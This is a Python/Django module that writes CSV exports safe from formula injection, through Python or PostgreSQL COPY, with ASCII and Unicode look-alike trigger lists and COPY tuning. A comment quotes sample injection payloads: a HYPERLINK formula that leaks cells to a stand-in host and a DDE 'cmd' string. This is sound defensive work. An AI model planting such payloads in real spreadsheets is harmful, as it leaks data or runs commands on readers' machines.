"""Formula-safe CSV, written by Python or by PostgreSQL: the writer every export uses.

Two writers produce the same text. On PostgreSQL the database writes the CSV itself (`COPY (SELECT ...) TO STDOUT`,
the formula neutralising done in SQL by `sql_csv_text`): several times the rows per second of Python, in flat memory.
Elsewhere (SQLite) `csv_stream` writes it from plain value tuples. tests/exports/test_postgres_writer.py holds the
two to the same output, hostile text included. Lines end in LF, as PostgreSQL writes them.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, Any

from django.db import connection, transaction

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Formula injection (CSV injection): a spreadsheet reads a cell starting with one of these as a formula, so a hostile
# inspection title, comment or evidence reference such as `=HYPERLINK("https://evil.example?"&A1,"Click")` or
# `@SUM(1+1)*cmd|' /C calc'!A0` would run, or leak other cells, when an officer opens the export. Tab and carriage
# return count because some spreadsheets skip them and then read the `=` that follows. A leading apostrophe is the
# spreadsheet convention for "this is text" (OWASP's recommendation); the value stays readable and is never evaluated.
# Only text is neutralised: numbers we computed (days_left, a negative number) and dates are written as they are.
ASCII_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Spreadsheets that normalise text (NFKC) read these as the signs above: full-width, small, superscript and subscript
# forms. Every character whose NFKC form begins with one of "=+-@" (tests/core/test_csv_formula_injection.py checks
# the list against the whole of Unicode).
LOOK_ALIKE_TRIGGERS = (
    "\u207a",  # ⁺ superscript plus
    "\u207c",  # ⁼ superscript equals
    "\u208a",  # ₊ subscript plus
    "\u208c",  # ₌ subscript equals
    "\u2a75",  # ⩵ two consecutive equals signs
    "\u2a76",  # ⩶ three consecutive equals signs
    "\ufb29",  # ﬩ Hebrew alternative plus sign
    "\ufe62",  # ﹢ small plus
    "\ufe63",  # ﹣ small hyphen-minus
    "\ufe66",  # ﹦ small equals
    "\ufe6b",  # ﹫ small commercial at
    "\uff0b",  # ＋ full-width plus
    "\uff0d",  # － full-width hyphen-minus
    "\uff1d",  # ＝ full-width equals
    "\uff20",  # ＠ full-width commercial at
)
FORMULA_TRIGGERS = ASCII_TRIGGERS + LOOK_ALIKE_TRIGGERS


def neutralise(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_cell(value: Any) -> str | int:
    # Text first: nearly every cell of an export is text, and this runs for every cell of a million rows.
    if type(value) is str:
        return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return value
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralise(str(value))


class _Echo:
    """A file-like object that hands back what is written: csv.writer then returns each line (Django's
    "Streaming large CSV files" recipe)."""

    def write(self, value: str) -> str:
        return value


BATCH_CHARS = 64 * 1024


def csv_stream(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, batch_chars: int = BATCH_CHARS
) -> Iterator[str]:
    """Yield a formula-safe CSV document in pieces of about `batch_chars`; memory stays flat whatever the row count."""
    writer = csv.writer(_Echo(), lineterminator="\n")
    batch: list[str] = [writer.writerow([csv_cell(name) for name in header])]
    size = len(batch[0])
    for row in rows:
        line = writer.writerow([csv_cell(value) for value in row])
        batch.append(line)
        size += len(line)
        if size >= batch_chars:
            yield "".join(batch)
            batch, size = [], 0
    if batch:
        yield "".join(batch)


# --- PostgreSQL writes the CSV -------------------------------------------------------------------------------------
def uses_postgres_writer() -> bool:
    return connection.vendor == "postgresql"


def sql_csv_text(expression: str) -> str:
    """SQL for a text cell exactly as `csv_cell` writes it: NULL (written empty) for NULL or '', and a leading
    apostrophe before a formula trigger. `expression` is repeated, so pass a column, not a computation."""
    # ascii() reads the first character's code without making a new string (left(x, 1) did, for every cell).
    triggers = ", ".join(str(ord(char)) for char in FORMULA_TRIGGERS)
    return (
        f"(CASE WHEN {expression} = '' THEN NULL WHEN ascii({expression}) IN ({triggers}) "
        f"THEN '''' || {expression} ELSE {expression} END)"
    )


# For an export's COPY alone: dates written as YYYY-MM-DD (a date column is selected as it is, no to_char); sorting
# in memory rather than on disk; one process, since parallel workers on a small machine took the CPUs the web
# requests and the export's own reader needed (docs/bench.md, "What made the figures").
COPY_SETTINGS = {"DateStyle": "ISO, YMD", "work_mem": "64MB", "max_parallel_workers_per_gather": "0"}
# A COPY's output is held in memory up to this size, on disk beyond, until it is sent.
SPOOL_MEMORY = 8 * 1024 * 1024


def copy_csv(query: str, params: Sequence[Any], *, batch_chars: int = BATCH_CHARS) -> Iterator[str]:
    """Yield the CSV PostgreSQL writes for `query` (no header), in pieces of about `batch_chars`.

    The COPY runs to its end first, into a temporary file (in memory up to SPOOL_MEMORY, on disk beyond), in a
    short transaction of its own; only then is the file sent. So a slow or abandoned download holds no statement,
    transaction, snapshot or lock in the database (a `migrate` waiting for a lock would otherwise queue every query
    behind it), and memory stays flat. Pieces are decoded incrementally: one may end inside a UTF-8 character.
    """
    with tempfile.SpooledTemporaryFile(max_size=SPOOL_MEMORY) as spool:
        _copy_into(spool, query, params)
        spool.seek(0)
        decoder = codecs.getincrementaldecoder("utf-8")()
        while piece := spool.read(batch_chars):
            yield decoder.decode(piece)
        tail = decoder.decode(b"", final=True)
        if tail:
            yield tail


def _copy_into(file: IO[bytes], query: str, params: Sequence[Any]) -> None:
    names = list(COPY_SETTINGS)
    setting = ", ".join("set_config(%s, %s, true)" for _ in names)
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"SELECT {', '.join('current_setting(%s)' for _ in names)}", names)
        previous = cursor.fetchone()
        cursor.execute(f"SELECT {setting}", [item for pair in COPY_SETTINGS.items() for item in pair])
        with cursor.cursor.copy(f"COPY ({query}) TO STDOUT WITH (FORMAT csv)", params) as copy:
            batch: list[bytes] = []  # COPY sends a message a row: written to the file 64 KB at a time
            size = 0
            for block in copy:
                batch.append(bytes(block))
                size += len(block)
                if size >= BATCH_CHARS:
                    file.write(b"".join(batch))
                    batch, size = [], 0
            file.write(b"".join(batch))
        # Called inside a transaction, this block is a savepoint and set_config(..., true) would outlast it.
        cursor.execute(f"SELECT {setting}", [item for pair in zip(names, previous, strict=True) for item in pair])


def header_line(header: Sequence[str]) -> str:
    return next(csv_stream(header, ()))
